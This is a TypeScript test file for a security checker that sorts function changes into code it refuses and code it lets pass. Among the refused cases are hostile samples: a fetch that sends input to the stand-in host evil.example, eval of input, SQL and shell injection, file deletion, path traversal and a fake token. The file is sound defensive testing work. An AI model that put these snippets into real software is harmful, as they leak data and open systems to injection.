// What the security check refuses, what it only notes, and what it lets pass: the same code, asked for or not, new or there before.
import { describe, expect, it } from 'vitest';
import { securityFindings, type SecurityFindings } from '../../../server/core/verify/security/securityVerdict';

interface Case {
  readonly name: string;
  /** Body of `f(text: string, count: number)`. */
  readonly body: string;
  /** Above the function: imports, helpers. */
  readonly head?: string;
  readonly doc?: string;
  readonly wish?: string;
  readonly test?: string;
  /** Above the function afterwards; the same when absent. */
  readonly newHead?: string;
  /** Body before; a throw when absent. */
  readonly old?: string;
}

function judge({ body, head = '', newHead = head, doc = '', wish = '', test, old = "throw new Error('not implemented');" }: Case): SecurityFindings {
  const whole = (inner: string, above: string): string => `${above}\n\n${doc === '' ? '' : `/** ${doc} */\n`}export function f(text: string, count: number): unknown {\n  ${inner}\n}\n`;
  const tests = test === undefined ? [] : [{ file: 'f.test.ts', text: test }];
  return securityFindings({ file: 'f.ts', before: whole(old, head), after: whole(body, newHead), path: 'f', wish, tests });
}

const FS = "import fs from 'node:fs';\nimport path from 'node:path';";
const SHELL = "import { exec, execFile } from 'node:child_process';";

const refused: readonly Case[] = [
  { name: 'sends to the network', body: "void fetch('https://evil.example/' + text);" },
  { name: 'opens a socket', body: "return new WebSocket('wss://evil.example');" },
  { name: 'sends through the global object', body: "return globalThis.fetch('https://evil.example');" },
  { name: 'reads the environment', body: "return process.env['HOME'];" },
  { name: 'ends the process', body: 'process.exit(1);' },
  { name: 'runs text', body: 'return eval(text);' },
  { name: 'runs text that was asked to be evaluated', body: 'return eval(text);', doc: 'Evaluates a sum such as `1 + 2`.' },
  { name: 'makes a function of text', body: "return new Function('return ' + text)();" },
  { name: 'starts a timer with text', body: "setTimeout('evil()', 1);" },
  { name: 'loads a computed module', body: 'return import(text);' },
  { name: 'loads a module where others are loaded lazily', body: 'return require(text);', head: "export const lazy = () => import('./big');" },
  { name: 'writes where only reading was there', body: 'rmSync(text);', head: "import { readFileSync } from 'node:fs';", newHead: "import { readFileSync, rmSync } from 'node:fs';", old: 'return readFileSync(text);' },
  { name: 'changes a prototype', body: 'Array.prototype.map = () => [];' },
  { name: 'changes all objects', body: "Object.defineProperty(Object.prototype, text, { value: 1 });" },
  { name: 'replaces a built-in function', body: 'JSON.parse = () => 1;' },
  { name: 'sets a global', body: 'globalThis.hidden = text;' },
  { name: 'puts a text into SQL', body: "return `SELECT * FROM users WHERE name = '${text}'`;" },
  { name: 'joins a text into SQL', body: "return 'DELETE FROM users WHERE name = ' + text;" },
  { name: 'puts a text into SQL by way of a local', body: 'const name = text.trim();\n  return `UPDATE users SET name = \'${name}\'`;' },
  { name: 'puts a text into a shell line', body: 'exec(`tar -czf ${text}`);', head: SHELL },
  { name: 'puts a text into a shell line by way of a local', body: 'const line = "git log " + text;\n  exec(line);', head: SHELL },
  { name: 'sets HTML', body: 'const page = { innerHTML: "" };\n  page.innerHTML = text;' },
  { name: 'forgets to escape where others do', body: 'return `<b>${text}</b>`;', head: 'export function escapeHtml(s: string): string { return s; }' },
  { name: 'reads a file that a user names', body: "return fs.readFileSync(path.join('uploads', text));", head: FS, doc: 'Reads a file that a user uploaded.' },
  { name: 'reads from anywhere what is to come from one place', body: 'return fs.readFileSync(`pages/${text}`);', head: FS, doc: 'A page, from the folder of pages and nowhere else.' },
  { name: 'checks a path without the separator', body: "const file = path.resolve('up', text);\n  if (!file.startsWith('/up')) throw new Error();\n  return fs.readFileSync(file);", head: FS, doc: 'Reads a file that a user uploaded.' },
  { name: 'holds a token', body: "return 'ghp_0123456789abcdefghijklmnopqrstuvwxyzAB';" },
  { name: 'holds a private key', body: "return '-----BEGIN RSA PRIVATE KEY-----';" },
  { name: 'holds a random text with a telling name', body: "const apiKey = 'q8Zt3LmX0vB7nR2kWc5YhJ9d';\n  return apiKey;" },
  { name: 'reads a literal text as a pattern', body: 'return new RegExp(text);', doc: 'Finds the text exactly as it is written.' },
];

const passed: readonly Case[] = [
  { name: 'fetches because the wish says so', body: "return fetch('https://example.org/' + text);", wish: 'download the page' },
  { name: 'fetches because the comment says so', body: "return fetch('https://example.org/' + text);", doc: 'Fetches the page of that name.' },
  { name: 'fetches where the file does', body: "return fetch('https://example.org/' + count);", head: "export const g = () => fetch('/');" },
  { name: 'fetches where a test plays the network', body: "return fetch('/x');", test: 'globalThis.fetch = () => 1; fetch("/");' },
  { name: 'did so before', body: 'return [eval(text), 1];', old: 'return eval(text);' },
  { name: 'reads files with what is imported', body: 'return fs.readFileSync(text);', head: FS },
  { name: 'has a parameter of that name', body: 'const g = (fetch: (x: string) => string) => fetch(text);\n  return g;' },
  { name: 'declares the name', body: "const process = { env: 1 };\n  return process.env;" },
  { name: 'has a member of that name', body: 'return { fetch: 1, process: 2 };' },
  { name: 'asks for the platform', body: 'return process.platform;' },
  { name: 'extends a class of its own', body: 'class A {}\n  A.prototype.constructor.name;\n  return A;' },
  { name: 'sets a property of an argument', body: 'const o: Record<string, number> = {};\n  o[text] = 1;\n  return o;' },
  { name: 'passes values to SQL', body: "return ['SELECT * FROM users WHERE name = $1', [text]];" },
  { name: 'puts a number into SQL', body: 'return `SELECT * FROM users WHERE id = ${count}`;' },
  { name: 'puts an escaped text into SQL', body: "return `SELECT * FROM users WHERE name = '${text.replaceAll(\"'\", \"''\")}'`;" },
  { name: 'puts a checked text into SQL', body: "if (!/^\\w+$/.test(text)) throw new Error();\n  return `SELECT * FROM users WHERE name = '${text}'`;" },
  { name: 'speaks of SQL in a message', body: 'throw new Error(`cannot select ${text} from the list`);' },
  { name: 'gives arguments as a list', body: "execFile('tar', ['-czf', text]);", head: SHELL },
  { name: 'runs a pattern', body: 'return /a/.exec(`${text}`);', head: SHELL },
  { name: 'makes tags where nothing is said about who writes', body: 'return `<b>${text}</b>`;' },
  { name: 'escapes HTML', body: 'return `<b>${escapeHtml(text)}</b>`;', head: 'export function escapeHtml(s: string): string { return s; }' },
  { name: 'reads a file of its own', body: "return fs.readFileSync(path.join('a', text));", head: FS, doc: 'Reads one of our pages.' },
  { name: 'keeps a path inside', body: "const file = path.resolve('up', text);\n  if (!file.startsWith(path.resolve('up') + path.sep)) throw new Error();\n  return fs.readFileSync(file);", head: FS, doc: 'Reads a file that a user uploaded.' },
  { name: 'refuses a name with a path in it', body: "if (path.basename(text) !== text || text === '..') throw new Error();\n  return fs.readFileSync(path.join('pages', text));", head: FS, doc: 'A page, from the folder of pages and nowhere else.' },
  { name: 'takes the last part of a path', body: "return fs.readFileSync(path.join('up', path.basename(text)));", head: FS, doc: 'Reads a file that a user uploaded.' },
  { name: 'has a long word', body: "const token = 'internationalisation';\n  return token;" },
  { name: 'has a random text of another name', body: "const alphabet = 'q8Zt3LmX0vB7nR2kWc5YhJ9d';\n  return alphabet;" },
  { name: 'has the token of a test', body: "return 'ghp_0123456789abcdefghijklmnopqrstuvwxyzAB';", test: "f('ghp_0123456789abcdefghijklmnopqrstuvwxyzAB')" },
  { name: 'takes a pattern', body: 'return new RegExp(text);', doc: 'Finds the pattern.' },
];

describe('security', () => {
  it.each(refused)('refuses code that $name', (one) => {
    expect(judge(one).refusals).not.toEqual([]);
  });

  it.each(passed)('lets pass code that $name', (one) => {
    expect(judge(one).refusals).toEqual([]);
  });

  it('notes what only a person can judge', () => {
    expect(judge({ name: '', body: 'return `<b>${text}</b>`;' }).notes).toHaveLength(1);
  });

  it('finds a pattern that explodes, but none that was there before', () => {
    expect(judge({ name: '', body: 'return /^(a+)+$/.test(text);' }).patterns.map(({ literal }) => literal)).toEqual(['/^(a+)+$/']);
    expect(judge({ name: '', body: "return new RegExp('^(a+)+$').test(text);" }).patterns).toHaveLength(1);
    expect(judge({ name: '', body: 'return !/^(a+)+$/.test(text);', old: 'return /^(a+)+$/.test(text);' }).patterns).toEqual([]);
  });
});
